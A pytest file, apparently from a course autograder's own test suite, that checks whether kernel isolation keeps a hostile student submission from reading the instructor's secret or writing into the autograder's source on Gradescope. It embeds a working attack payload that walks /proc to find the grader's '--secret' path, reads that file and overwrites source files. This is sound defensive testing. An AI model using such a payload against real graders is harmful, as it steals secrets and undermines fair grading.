            grade_class(submissions, out, seed=SEED, secret=term["secret"], exercises=GRADED, timeout=TIMEOUT,
                        reasons=True, isolated=True)
    graded = _graded(tmp_path, out, tmp_path / "captured.txt")
    reason = graded.reasons[forger.student][ATTACKED]
    assert graded.rows[forger.student][ATTACKED] == "0", graded.feedback[forger.student]
    assert reason and reason != "passed" and "\n" not in reason, reason
    assert graded.rows[forger.student][BYSTANDER] == str(EXERCISES[BYSTANDER].points)
    assert graded.rows[HONEST[1]] == baseline.rows[HONEST[1]]
    assert graded.feedback[HONEST[1]] == baseline.feedback[HONEST[1]]
    assert survivors == {}


# -- Gradescope: the zip's run_autograder, as Gradescope runs it -------------------------------------------

GRADESCOPE_ATTACK = Attack("gradescope", r"""
    def read(path):
        with open(path, "rb") as file:
            return file.read().replace(b"\0", b" ").decode(errors="replace")
    stolen, errors = [], []
    for path in (C["source"] + "/pwned.txt", C["source"] + "/python/npformer/pwned.py"):
        try:
            with open(path, "w") as file:
                file.write("# written by a student\n")
            stolen.append("wrote " + path)
        except OSError as error:
            errors.append(error)
    paths, pid = [C["secret_file"]], os.getppid()
    for _ in range(8):   # the grader's command line says where the secret is: --secret PATH
        try:
            words = read(f"/proc/{pid}/cmdline").split()
            if "--secret" in words:
                paths.append(words[words.index("--secret") + 1])
            pid = int(next(line.split()[1] for line in read(f"/proc/{pid}/status").splitlines()
                           if line.startswith("PPid:")))
        except (OSError, StopIteration, IndexError) as error:
            errors.append(error)
            break
        if pid <= 1:
            break
    for path in paths:
        try:
            stolen.append(read(path))
        except OSError as error:
            errors.append(error)
    if stolen:
        leak(stolen)
    raise errors[-1]
""", _one_of(*OPEN_REFUSED), "Gradescope: source/secret.txt read, source/ written")


def _npformer(*args, cwd: Path) -> None:
    path = os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")]))  # this checkout's npformer
    done = subprocess.run([sys.executable, "-m", "npformer", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300, env={**os.environ, "PYTHONPATH": path})
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]


def test_run_autograder_keeps_the_secret_and_the_source_from_an_attacker(kernel_isolation, tmp_path):
    week = next(number for number in range(1, 15) if ATTACKED in syllabus.problem_set(number))
    exercises = syllabus.problem_set(week)
    secret = "SECRET-" + secrets.token_hex(12)
    (tmp_path / "secret.txt").write_text(secret + "\n", encoding="utf-8")
    _npformer("course", "gradescope", "autograder.zip", "--set", str(week), "--seed", "4", "--timeout", "10",
              "--secret", str(tmp_path / "secret.txt"), cwd=tmp_path)
    source = tmp_path / "source"
    with zipfile.ZipFile(tmp_path / "autograder.zip") as archive:
        archive.extractall(source)
    root = tmp_path / "gradescope"   # Gradescope's /autograder
    (root / "submission").mkdir(parents=True)
    os.symlink(source, root / "source")
    constants = {"source": str(root / "source"), "secret_file": str(root / "source" / "secret.txt")}
    instructor_edition(LESSONS, root / "submission", only=list(syllabus.week(week).lessons))
    replace_solution(root / "submission" / LESSON, ATTACKED, _body(GRADESCOPE_ATTACK, constants))
    before = _tree(source)
    token = "TOKEN-" + secrets.token_hex(12)
    with _watched(set()) as survivors:
        done = subprocess.run(["bash", str(root / "source" / "run_autograder")], capture_output=True, text=True,
                              timeout=300, env={**os.environ, "AUTOGRADER_ROOT": str(root), "PYTHON": sys.executable,
                                                "PYTHONDONTWRITEBYTECODE": "1", TOKEN_NAME: token})
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    text = (root / "results" / "results.json").read_text(encoding="utf-8")
    results = json.loads(text)
    for leaked in (secret, token, "LEAK", "PRELUDE FAILED"):
        assert leaked not in text + done.stdout + done.stderr, leaked
    tests = {test["name"].split(": ")[-1]: test for test in results["tests"] if test["max_score"] > 0}
    assert list(tests) == exercises
    attacked = tests[ATTACKED]
    assert attacked["score"] == 0, attacked["output"]
    assert any(words in attacked["output"] for words in ("FileNotFoundError", "PermissionError")), attacked["output"]
    assert all(test["score"] == test["max_score"] for name, test in tests.items() if name != ATTACKED), results
    assert _tree(source) == before, "the autograder's source changed: " + repr(
        sorted(set(_tree(source).items()) ^ set(before.items())))
    assert sorted(path.name for path in (root / "results").iterdir()) == ["results.json"]
    assert survivors == {}


# -- the same attack without the kernel: the evidence that the kernel is what holds -------------------------

def test_without_kernel_isolation_the_same_attack_reads_the_secret(tmp_path):
    """``isolated=False``: the audit hook, the descriptor lock and the worker's own filter alone.
    The secret-reading attack gets the secret into its feedback, which is what the isolation stops
    (``test_the_attack_is_stopped_by_the_kernel[read_secret]``). Red here would mean the attack
    itself broke, and the isolated tests above would then prove nothing."""
    secret = "SECRET-" + secrets.token_hex(12)
    secret_file = tmp_path / "instructor" / "secret.txt"
    secret_file.parent.mkdir()
    secret_file.write_text(secret + "\n", encoding="utf-8")
    attack = next(attack for attack in ATTACKS if attack.name == "read_secret")
    submissions = tmp_path / "submissions"
    instructor_edition(LESSONS, submissions / attack.student, only=["02"])
    replace_solution(submissions / attack.student / LESSON, ATTACKED, _body(attack, {"secret_file": str(secret_file)}))
    out = tmp_path / "out" / "grades.csv"
    graded = grade_class(submissions, out, seed=SEED, exercises=[ATTACKED], timeout=TIMEOUT, reasons=True,
                         isolated=False)
    report = graded[0].results[ATTACKED].report
    assert "PRELUDE FAILED" not in report, report
    assert "LEAK" in report and secret in report, report
